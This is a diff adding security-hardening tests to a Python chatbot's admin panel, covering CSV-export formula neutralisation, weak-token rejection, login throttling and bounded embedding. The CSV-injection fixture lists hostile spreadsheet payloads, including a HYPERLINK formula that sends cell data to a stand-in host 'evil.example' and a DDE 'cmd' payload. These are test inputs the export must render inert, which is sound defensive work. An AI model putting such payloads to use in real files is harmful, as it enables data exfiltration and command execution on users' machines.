@@ -179,7 +179,7 @@ def test_admin_page_data_and_csv(admin_site):
     assert [int(g["size"]) for g in groups] == [g["size"] for g in data["groups"]]
     sections = httpx.get(server.url + "/admin/export.csv?table=sections", headers=auth, timeout=60)
     assert sections.headers["content-type"].startswith("text/csv") and "attachment" in sections.headers["content-disposition"]
-    assert f"{NCCL}," in sections.text and "wrong_section 8" in sections.text
+    assert f'"{NCCL}",' in sections.text and "wrong_section 8" in sections.text  # every field quoted (OWASP)
     events = list(csv.DictReader(io.StringIO(httpx.get(server.url + "/admin/export.csv?table=events&days=7",
                                                         headers=auth, timeout=60).text.lstrip("\ufeff"))))
     assert events and all(e["at"] >= (now() - timedelta(days=8)).isoformat() for e in events)
@@ -283,3 +283,153 @@ def test_rare_wordings_join_the_nearest_group(monkeypatch):
     found = sorted(sorted(text for text, _ in g.examples) for g in report.groups)
     assert sorted(HOROVOD) not in found  # the two rare horovod wordings were not clustered on their own ...
     assert sum(g.size for g in report.groups) == len(rows)  # ... but every question is in some group
+
+
+# ---------------------------------------------------------------- hardening (issue 19)
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_runs_no_formula(store_settings, hash_settings):
+    """A question typed by anyone must not become a live formula in the operator's spreadsheet (OWASP CSV injection)."""
+    store = Store.open(store_settings.model_copy(update={"admin_token": ADMIN}))
+    t = now()
+    rows = [store._row(Event("question", text, "en", tier="none", cited=(OOM,), signature=""), "", 50.0, at=t)
+            for text in FORMULAS for _ in range(2)]
+    rows.append(store._row(Event("vote", FORMULA, "en", vote="down", reason="other", cited=(OOM,), answer_id="f"),
+                           "", None, at=t))
+    store._write(rows)
+    app = build_app(hash_settings, engine=Engine.open(hash_settings, auto_build=True), progress=False, store=store)
+    try:
+        with ThreadServer(app) as server:
+            cells = {}
+            for table in ("events", "groups", "sections", "days"):
+                response = httpx.get(f"{server.url}/admin/export.csv?table={table}",
+                                     headers={"Authorization": f"Bearer {ADMIN}"}, timeout=60)
+                assert response.status_code == 200
+                cells[table] = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for c in row]
+    finally:
+        store.close()
+    for table, found in cells.items():
+        live = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert not live, (table, live)
+    assert "'" + FORMULA in cells["events"]  # kept readable, just inert
+    assert any(c.startswith("'" + FORMULA[:10]) for c in cells["groups"])  # group labels too
+
+
+def test_a_weak_admin_token_is_refused_at_start_up(monkeypatch, capsys, tmp_path, store_settings, hash_settings):
+    from bot.store.database import StoreSettings
+
+    for weak in ("a", "short", "with space"):
+        with pytest.raises(ValueError) as caught:
+            StoreSettings.from_env({"BOT_ADMIN_TOKEN": weak})
+        message = str(caught.value)
+        assert message.startswith("BOT_ADMIN_TOKEN=<") and "8 to 512 printable characters" in message
+        assert f"={weak!r}" not in message  # the secret is not echoed
+    assert StoreSettings.from_env({"BOT_ADMIN_TOKEN": "Xk3-long-enough"}).admin_token == "Xk3-long-enough"
+    import app as app_module
+
+    monkeypatch.setenv("BOT_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.setenv("BOT_ADMIN_TOKEN", "a")
+    assert app_module.main(["--port", "1", "--index", str(tmp_path / "no-index")]) == 2
+    assert "error: BOT_ADMIN_TOKEN=<1 characters, not shown> is not valid" in capsys.readouterr().err
+    # settings built in code (no from_env) are checked when /admin is mounted
+    store = Store.open(store_settings.model_copy(update={"admin_token": "a"}))
+    try:
+        with pytest.raises(ValueError, match="BOT_ADMIN_TOKEN=<1 characters, not shown> is too weak"):
+            build_app(hash_settings, engine=Engine.open(hash_settings, auto_build=True), progress=False, store=store)
+    finally:
+        store.close()
+
+
+@pytest.mark.parametrize("store_settings", ["sqlite"], indirect=True)
+def test_wrong_credentials_are_throttled(admin_site):
+    server, _ = admin_site
+    statuses = []
+    with httpx.Client(base_url=server.url, timeout=30) as client:
+        for n in range(500):
+            response = client.post("/admin/login", data={"token": f"guess-{n}"})
+            statuses.append(response.status_code)
+            if response.status_code == 429:
+                assert int(response.headers["retry-after"]) >= 1
+        # locked out: the right credential gets no answer either, nor does a bearer guess
+        assert client.post("/admin/login", data={"token": ADMIN}).status_code == 429
+        assert client.get("/admin/data.json", headers={"Authorization": "Bearer guess"}).status_code == 429
+    # 5 free tries, then 1 s, 2 s, 4 s, ... lockouts: even a slow machine gets only a few more answers in
+    assert statuses[:5] == [401] * 5 and statuses.count(429) >= 480, statuses.count(401)
+
+
+def test_throttle_doubles_the_lockout_and_forgets_a_quiet_client():
+    from bot.web.admin import LoginThrottle
+
+    clock = [100.0]
+    throttle = LoginThrottle(free=3, base=1.0, cap=60.0, clock=lambda: clock[0])
+    for _ in range(3):
+        throttle.failed("10.0.0.1")
+    assert throttle.retry_after("10.0.0.1") == 0
+    waits = []
+    for _ in range(8):
+        throttle.failed("10.0.0.1")
+        waits.append(throttle.retry_after("10.0.0.1"))
+        clock[0] += waits[-1]
+    assert waits == [1, 2, 4, 8, 16, 32, 60, 60]
+    assert throttle.retry_after("10.0.0.2") == 0  # per client
+    throttle.failed("10.0.0.1")
+    clock[0] += 61 + 60
+    assert throttle.retry_after("10.0.0.1") == 0
+    throttle.failed("10.0.0.1")
+    assert throttle.retry_after("10.0.0.1") == 0  # forgotten: its free tries again
+
+
+def test_a_large_backlog_is_embedded_a_bounded_number_per_view():
+    """1,140 distinct gap questions: a view embeds at most EMBED_PER_VIEW new ones, the rest are counted."""
+    from bot.web.admin import EMBED_PER_VIEW, Embeddings
+
+    embedder = HashEmbedder()
+    calls = []
+
+    class Counting:
+        def embed(self, texts, role):
+            calls.append(len(texts))
+            return embedder.embed(texts, role=role)
+
+    class FakeEngine:
+        embedder = Counting()
+
+    t = now()
+    rows = [{"at": t, "kind": "question", "tier": "none", "question": f"distinct question number {n}", "signature": None,
+             "cited": [], "vote": None, "latency_ms": None} for n in range(1_140)]
+    embeddings = Embeddings(FakeEngine())
+    first = build_report(rows, embeddings, days=7, max_new_embeddings=EMBED_PER_VIEW)
+    assert sum(calls) == EMBED_PER_VIEW and first.ungrouped == 1_140 - EMBED_PER_VIEW
+    assert sum(g.size for g in first.groups) + first.ungrouped == 1_140
+    views = 1
+    while build_report(rows, embeddings, days=7, max_new_embeddings=EMBED_PER_VIEW).ungrouped:
+        views += 1
+    assert sum(calls) == 1_140 and max(calls) <= EMBED_PER_VIEW and views == -(-1_140 // EMBED_PER_VIEW) - 1
+    build_report(rows, embeddings, days=7, max_new_embeddings=EMBED_PER_VIEW)
+    assert sum(calls) == 1_140  # all cached: a later view embeds nothing
+
+
+def test_cli_report_deletes_nothing(store_settings, hash_settings, monkeypatch, capsys):
+    """`bot report` reads; only the app applies retention (it used to delete 24 -> 19 rows on its own)."""
+    from bot.cli import main as cli_main
+
+    store = Store.open(store_settings)
+    seed(store, days=30)
+    old = [store._row(Event("question", f"old {n}", "en", tier="none"), "", None, at=now() - timedelta(days=200 + n))
+           for n in range(5)]
+    store._write(old)
+    before = len(store.rows())
+    store.close()
+    Engine.open(hash_settings, auto_build=True)
+    monkeypatch.setenv("BOT_DATABASE_URL", store_settings.database_url)
+    monkeypatch.setenv("BOT_DATA_DIR", str(store_settings.data_dir))
+    args = ["--embedder", "hash", "--index", str(hash_settings.index_dir), "--seeds", str(hash_settings.seeds_dir)]
+    assert cli_main(["report", *args]) == 0
+    reader = Store.reader(store_settings)
+    try:
+        assert len(reader.rows()) == before
+    finally:
+        reader.close()
